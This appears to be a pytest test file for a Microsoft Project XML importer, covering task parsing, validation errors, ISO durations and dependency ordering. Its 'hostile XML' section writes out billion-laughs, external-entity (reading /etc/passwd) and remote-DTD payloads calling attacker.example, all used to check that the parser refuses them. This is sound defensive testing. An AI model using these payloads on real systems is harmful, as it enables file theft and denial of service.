"""Reading Microsoft Project XML (issue 15 B): the hand-written sample plan, hostile XML, wrong values (each error
naming its task UID), the duration format, and the order links are set in."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tandem.domain.errors import TooLarge, ValidationError
from tandem.domain.msproject import MAX_BYTES, MAX_TASKS, NS, format_duration, parse_duration, parse_plan
from tandem.domain.plan_graph import find_cycle, successors_first

SAMPLE = Path(__file__).resolve().parents[1] / "fixtures" / "msproject" / "sample_plan.xml"


def task_xml(uid: int, name: str | None = None, level: int = 1, **values: str) -> str:
    """One <Task>: UID, Name and OutlineLevel, then any other element given (`PredecessorLink` as raw XML)."""
    links = values.pop("links", "")
    parts = [f"<UID>{uid}</UID>", f"<Name>{name if name is not None else f'Task {uid}'}</Name>",
             f"<OutlineLevel>{level}</OutlineLevel>", *(f"<{k}>{v}</{k}>" for k, v in values.items()), links]
    return "<Task>" + "".join(parts) + "</Task>"


def link(pred: int, kind: int = 1, lag: int = 0) -> str:
    return f"<PredecessorLink><PredecessorUID>{pred}</PredecessorUID><Type>{kind}</Type><LinkLag>{lag}</LinkLag>" \
           "</PredecessorLink>"


def plan_xml(*tasks: str, extra: str = "", ns: bool = True) -> str:
    xmlns = f' xmlns="{NS}"' if ns else ""
    return f'<?xml version="1.0"?><Project{xmlns}><Title>T</Title><Tasks>{"".join(tasks)}</Tasks>{extra}</Project>'


def errors_of(xml: str) -> list[dict]:
    with pytest.raises(ValidationError) as caught:
        parse_plan(xml)
    return caught.value.details["errors"]


# --------------------------------------------------------------------------- the sample plan


def test_the_sample_plan_reads_every_task_but_the_project_summary_with_its_outline_parents():
    # Given the hand-written export; when it is read
    plan = parse_plan(SAMPLE.read_bytes())
    # Then its 14 tasks come in outline order without UID 0, each under the nearest task one level up
    assert plan.title == "Website relaunch"
    assert [t.uid for t in plan.tasks] == [1, 2, 3, 4, 5, 6, 7, 16, 8, 9, 10, 11, 12, 13]
    parents = {t.uid: t.parent_uid for t in plan.tasks}
    assert parents == {1: None, 2: 1, 3: 1, 4: 1, 5: None, 6: 5, 7: 6, 16: 6, 8: 5, 9: None, 10: 9, 11: 9, 12: 9,
                       13: None}
    assert {t.uid for t in plan.tasks if t.summary} == {1, 5, 6, 9}
    assert max(t.outline_level for t in plan.tasks) == 3


def test_the_sample_plan_keeps_dates_durations_progress_milestones_and_notes():
    by_uid = {t.uid: t for t in parse_plan(SAMPLE.read_bytes()).tasks}
    kickoff, signoff = by_uid[2], by_uid[4]
    assert (kickoff.start, kickoff.finish, kickoff.duration_minutes) == (date(2026, 3, 2), date(2026, 3, 2), 270)
    assert kickoff.notes.startswith("Agenda:") and kickoff.wbs == "1.1" and kickoff.id == 2
    assert (signoff.milestone, signoff.duration_minutes, signoff.start, signoff.finish) == (
        True, 0, date(2026, 3, 5), date(2026, 3, 5))
    assert by_uid[16].id == 8 and by_uid[16].outline_number == "2.1.2"
    assert [by_uid[u].percent_complete for u in (2, 7, 16, 8, 10)] == [100, 80, 50, 20, 0]
    assert "&" in by_uid[8].notes  # an entity of XML itself (&amp;) is plain text, not a declared entity


def test_the_sample_plan_keeps_finish_to_start_links_and_reports_the_others():
    plan = parse_plan(SAMPLE.read_bytes())
    preds = {t.uid: t.predecessor_uids for t in plan.tasks if t.predecessor_uids}
    # Then every finish-to-start link is kept, the one across branches (4 → 7) too; the start-to-start one is not
    assert preds == {3: [2], 4: [3], 7: [4], 16: [7], 8: [6], 10: [8], 12: [3], 13: [11, 12]}
    assert [(n.uid, n.field) for n in plan.notices] == [(11, "Task[UID=11].PredecessorLink[0]")]
    assert "start-to-start" in plan.notices[0].message


def test_the_sample_plan_reads_named_resources_and_their_assignments_without_the_unassigned_ones():
    plan = parse_plan(SAMPLE.read_bytes())
    assert [(r.uid, r.name, r.email) for r in plan.resources] == [
        (1, "Mia Member", "Mia@Agency.example"), (2, "Ólaf Outsider", None),
        (3, "Freelance Designer", "studio@freelance.example")]
    by_uid = {t.uid: t for t in plan.tasks}
    assert by_uid[2].resource_uids == [1, 2] and by_uid[12].resource_uids == [3]
    assert by_uid[4].resource_uids == [] and by_uid[13].resource_uids == []  # ResourceUID -65535


# --------------------------------------------------------------------------- hostile XML

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE Project [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Project xmlns="http://schemas.microsoft.com/project"><Tasks><Task><UID>1</UID><Name>&lol9;</Name></Task></Tasks>
</Project>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Project xmlns="http://schemas.microsoft.com/project"><Tasks><Task><UID>1</UID><Name>&secret;</Name></Task></Tasks>
</Project>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE Project SYSTEM "http://attacker.example/plan.dtd">
<Project xmlns="http://schemas.microsoft.com/project"><Tasks/></Project>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<Project xmlns="http://schemas.microsoft.com/project"><Tasks/></Project>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion_laughs", "external_entity", "external_dtd", "parameter_entity"])
def test_a_doctype_or_entity_is_refused_before_anything_is_expanded_or_fetched(xml):
    # Given XML that declares a DTD or entities (the network is off in unit tests: a fetch would fail differently)
    with pytest.raises(ValidationError) as caught:
        parse_plan(xml)
    # Then it is refused as such, on the xml field
    assert caught.value.details["field"] == "xml"
    assert "DOCTYPE" in caught.value.message


def test_xml_that_is_not_well_formed_is_refused_with_its_line():
    with pytest.raises(ValidationError) as caught:
        parse_plan(f'<Project xmlns="{NS}">\n<Tasks>\n<Task><UID>1</Task>\n</Project>')
    assert caught.value.details["line"] == 3 and "line 3" in caught.value.message


@pytest.mark.parametrize("text", ["", "\x00", "<Project>\ud800</Project>", plan_xml(task_xml(1, name="\x01"))])
def test_text_that_is_no_xml_at_all_is_a_validation_error(text):
    with pytest.raises(ValidationError) as caught:
        parse_plan(text)
    assert caught.value.details["field"] == "xml"


def test_xml_of_another_kind_is_not_a_project():
    with pytest.raises(ValidationError) as caught:
        parse_plan("<Workbook><Sheet/></Workbook>")
    assert "Microsoft Project" in caught.value.message


def test_a_file_past_the_size_limit_is_too_large_before_it_is_parsed():
    # Given a body one byte over the limit (not even XML: it must not be looked at)
    with pytest.raises(TooLarge) as caught:
        parse_plan(b" " * (MAX_BYTES + 1))
    assert caught.value.details["limit"] == MAX_BYTES


def test_a_plan_with_more_tasks_than_the_limit_is_too_large():
    tasks = "".join(f"<Task><UID>{n}</UID></Task>" for n in range(1, MAX_TASKS + 2))
    with pytest.raises(TooLarge):
        parse_plan(plan_xml(tasks))
    assert len(parse_plan(plan_xml(*(task_xml(n) for n in range(1, 11)))).tasks) == 10


# --------------------------------------------------------------------------- wrong values


def test_every_wrong_value_is_reported_at_once_each_naming_its_task_uid():
    # Given one plan with a wrong value in each of six tasks
    xml = plan_xml(
        task_xml(1, Duration="8 hours"),
        task_xml(2, Start="next monday"),
        task_xml(3, PercentComplete="150"),
        task_xml(4, Start="2026-03-05T08:00:00", Finish="2026-03-04T17:00:00"),
        task_xml(5, name=""),
        task_xml(6, Milestone="yes"),
    )
    # Then all six come back, each with its UID and the element at fault
    found = {(e["uid"], e["field"]) for e in errors_of(xml)}
    assert found == {(1, "Task[UID=1].Duration"), (2, "Task[UID=2].Start"), (3, "Task[UID=3].PercentComplete"),
                     (4, "Task[UID=4].Finish"), (5, "Task[UID=5].Name"), (6, "Task[UID=6].Milestone")}


def test_links_to_unknown_tasks_to_themselves_and_in_a_loop_are_errors():
    xml = plan_xml(task_xml(1, links=link(9)), task_xml(2, links=link(2)),
                   task_xml(3, links=link(5)), task_xml(4, links=link(3)), task_xml(5, links=link(4)))
    messages = {e["uid"]: e["message"] for e in errors_of(xml)}
    assert "UID 9 is not a task" in messages[1]
    assert "its own predecessor" in messages[2]
    assert "cycle" in messages[3] and "3 → 4 → 5 → 3" in messages[3]  # each waits for the one before


def test_duplicate_uids_and_a_missing_outline_level_are_errors():
    found = {(e["uid"], e["message"]) for e in errors_of(plan_xml(task_xml(1), task_xml(1), task_xml(2, level=3)))}
    assert (1, "two tasks have UID 1") in found
    assert any(uid == 2 and "a level is missing" in message for uid, message in found)


def test_blank_rows_are_skipped_and_a_file_without_namespace_is_read():
    xml = plan_xml(task_xml(1), "<Task><UID>2</UID><IsNull>1</IsNull></Task>", task_xml(3, level=2), ns=False)
    plan = parse_plan(xml)
    assert [(t.uid, t.parent_uid) for t in plan.tasks] == [(1, None), (3, 1)]


def test_lags_and_links_to_other_projects_are_left_out_with_a_notice():
    cross = "<PredecessorLink><PredecessorUID>7</PredecessorUID><CrossProject>1</CrossProject></PredecessorLink>"
    plan = parse_plan(plan_xml(task_xml(1), task_xml(2, links=link(1, lag=4800) + cross)))
    assert plan.tasks[1].predecessor_uids == [1]
    assert [n.message.split(" ")[0] for n in plan.notices] == ["lag", "link"]


def test_an_assignment_of_an_unknown_task_is_an_error_and_one_of_a_blank_row_is_ignored():
    resources = "<Resources><Resource><UID>1</UID><Name>R</Name></Resource></Resources>"
    assignments = ("<Assignments><Assignment><TaskUID>0</TaskUID><ResourceUID>1</ResourceUID></Assignment>"
                   "<Assignment><TaskUID>9</TaskUID><ResourceUID>1</ResourceUID></Assignment></Assignments>")
    root = task_xml(0, level=0)
    errors = errors_of(plan_xml(root, task_xml(1), extra=resources + assignments))
    assert [(e["uid"], e["field"]) for e in errors] == [(9, "Assignment[1]")]


# --------------------------------------------------------------------------- durations


@pytest.mark.parametrize(("text", "minutes"), [
    ("PT8H0M0S", 480), ("PT4H30M0S", 270), ("PT0H0M0S", 0), ("PT0H0M29S", 0), ("PT0H0M30S", 1),
    ("PT1.5H", 90), ("P1DT2H", 1560), ("P2D", 2880), ("PT90M", 90), (" PT1H ", 60),
])
def test_durations_as_ms_project_writes_them_are_read_in_minutes(text, minutes):
    assert parse_duration(text) == minutes


@pytest.mark.parametrize("text", ["", "P", "PT", "8H", "PT-1H", "-PT1H", "P1Y", "P1M", "P1W", "PT1H2", "PTH",
                                  "P1DT", "pt1h", "PT1e3H", "PT1,5H"])
def test_anything_else_is_not_a_duration(text):
    with pytest.raises(ValueError):
        parse_duration(text)


@given(st.integers(min_value=0, max_value=10**8))
def test_a_formatted_duration_reads_back_to_the_same_minutes(minutes):
    assert parse_duration(format_duration(minutes)) == minutes


@given(st.integers(0, 10**6), st.integers(0, 10**6), st.integers(0, 10**6), st.integers(0, 999))
def test_hours_minutes_and_seconds_add_up_rounded_half_up(hours, minutes, seconds, days):
    total_seconds = days * 86400 + hours * 3600 + minutes * 60 + seconds
    assert parse_duration(f"P{days}DT{hours}H{minutes}M{seconds}S") == (total_seconds + 30) // 60


@given(st.text(max_size=40))
def test_any_text_is_a_duration_or_a_value_error(text):
    try:
        assert parse_duration(text) >= 0
    except ValueError:
        pass


# --------------------------------------------------------------------------- link order

dags = st.integers(1, 30).flatmap(lambda n: st.lists(
    st.lists(st.integers(0, n - 1), max_size=4), min_size=n, max_size=n))


@given(dags)
def test_successors_come_before_their_predecessors(edges):
    # Given a random graph whose links only point to earlier keys (so it has no cycle)
    preds = {k: sorted({p for p in ps if p < k}) for k, ps in enumerate(edges)}
    order = successors_first(preds)
    # Then every key is placed once, after every task that waits for it
    assert sorted(order) == list(preds)
    at = {k: n for n, k in enumerate(order)}
    assert all(at[k] < at[p] for k, ps in preds.items() for p in ps)
    assert find_cycle(preds) == []


def test_a_cycle_is_found_and_named_from_its_first_task():
    assert find_cycle({1: [3], 2: [1], 3: [2], 4: []}) == [1, 2, 3, 1]
    assert find_cycle({1: [1]}) == [1, 1]
